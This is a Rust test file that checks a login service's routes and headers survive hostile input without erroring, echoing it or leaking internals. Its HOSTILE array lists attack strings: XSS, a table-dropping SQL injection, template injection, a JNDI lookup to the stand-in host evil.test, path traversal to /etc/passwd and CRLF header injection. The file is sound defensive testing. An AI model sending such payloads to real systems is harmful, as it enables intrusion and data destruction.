//! Hostile parameters and headers get a response below 500 that doesn't echo them.

use std::time::{Duration, Instant};

use reqwest::Method;
use test_support::TestApp;

use crate::raw::{request, statuses};

const HOSTILE: [&str; 14] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'; DROP TABLE sessions; --",
    "{{1313*1009}}{% raw %}",
    "${jndi:ldap://evil.test/a}",
    "../../../../etc/passwd",
    "%00",
    "\u{0}\r\nSet-Cookie: a=b",
    "\u{202e}\u{feff}\u{fffd}",
    "[]",
    "null",
    "-1",
    "99999999999999999999",
    "javascript:alert(1)",
];

fn assert_harmless(body: &str, text: &str, what: &str) {
    if text.contains('<') {
        assert!(!body.contains(text), "{what} echoes {text}");
    }
    for insides in ["deserialize", "missing field", "panicked", "src/", ".rs:", "actix_", "sqlite"]
    {
        assert!(!body.contains(insides), "{what} exposes {insides}: {body}");
    }
    assert!(!body.contains("1324817"), "{what}: the input was evaluated as a template");
}

#[actix_web::test]
async fn hostile_parameters_cause_no_500_and_are_not_echoed() {
    let app = TestApp::spawn().await;
    let visitor = app.visitor();
    let long = "a".repeat(10_000);
    for text in HOSTILE.into_iter().chain([long.as_str()]) {
        for (path, names) in [
            ("/callback", &["code", "state", "error", "error_description"][..]),
            ("/login", &["return_to", "lang", "x"]),
            ("/login/sent", &["flow"]),
            ("/login/status", &["flow"]),
            ("/login/finish", &["flow"]),
            // for sso
            ("/login/sso", &["flow"]),
        ] {
            for name in names {
                let begun = Instant::now();
                let query = url::form_urlencoded::Serializer::new(String::new());
                let query = { query }.append_pair(name, text).finish();
                let answer = visitor.get(&format!("{path}?{query}")).await;
                assert!(answer.status.as_u16() < 500, "{path}?{name}={text}");
                assert_harmless(&answer.body, text, path);
                assert!(begun.elapsed() < Duration::from_secs(5), "{path}?{name}={text}");
            }
        }
        for (path, name) in [
            ("/login", "email"),
            ("/login", "return_to"),
            // for cross-device
            ("/login/approve", "digits"),
            ("/login/code", "code"),
            ("/login/code", "flow"),
            // for cross-device
            ("/login/approve", "flow"),
            ("/login/switch", "flow"),
            ("/logout", "x"),
        ] {
            let answer = visitor.post(path, &[(name, text)]).await;
            assert!(answer.status.as_u16() < 500, "{path} {name}={text}");
            assert_harmless(&answer.body, text, path);
        }
    }
    assert!(app.workos.calls().await.is_empty());
}

#[actix_web::test]
async fn hostile_headers_cause_no_500_and_are_not_echoed() {
    let app = TestApp::spawn().await;
    let mark = "can\"<ary>";
    for name in [
        "Accept",
        "Accept-Language",
        "User-Agent",
        "Referer",
        "Origin",
        "Cookie",
        "Forwarded",
        "X-Forwarded-For",
        "X-Forwarded-Host",
        "X-Request-Id",
        "If-None-Match",
        "Range",
        "Authorization",
        "Content-Type",
        "Accept-Encoding",
    ] {
        for value in [mark, "", ";;;,,,=", "\u{e9}\u{feff}", &"a,".repeat(2000)] {
            let answer = request(&app.origin, "GET /login", &format!("{name}: {value}\r\n")).await;
            let status = statuses(&answer);
            assert!(status.len() == 1 && status[0] < 500, "{name}: {value}: {answer}");
            assert!(!answer.contains("can\"<") && !answer.contains("<ary>"), "{name}: {answer}");
        }
    }
}

#[actix_web::test]
async fn duplicate_and_list_parameters_are_refused() {
    let app = TestApp::spawn().await;
    let visitor = app.visitor();
    for query in ["code=a&code=b&state=c", "code=a&state=b&state=c", "error=a&error=b"] {
        assert_eq!(visitor.get(&format!("/callback?{query}")).await.error(), "bad_request");
    }
    for body in [
        "email=ana@acme.test&email=eve@evil.test",
        "email[]=ana@acme.test&email[]=eve@evil.test",
        "email[0]=ana@acme.test",
    ] {
        let post = visitor.request(Method::POST, "/login").header("Sec-Fetch-Site", "same-origin");
        let post = post.header("Content-Type", "application/x-www-form-urlencoded").body(body);
        assert_eq!(visitor.send(post).await.error(), "bad_request", "{body}");
    }
    assert!(app.workos.calls().await.is_empty());
}
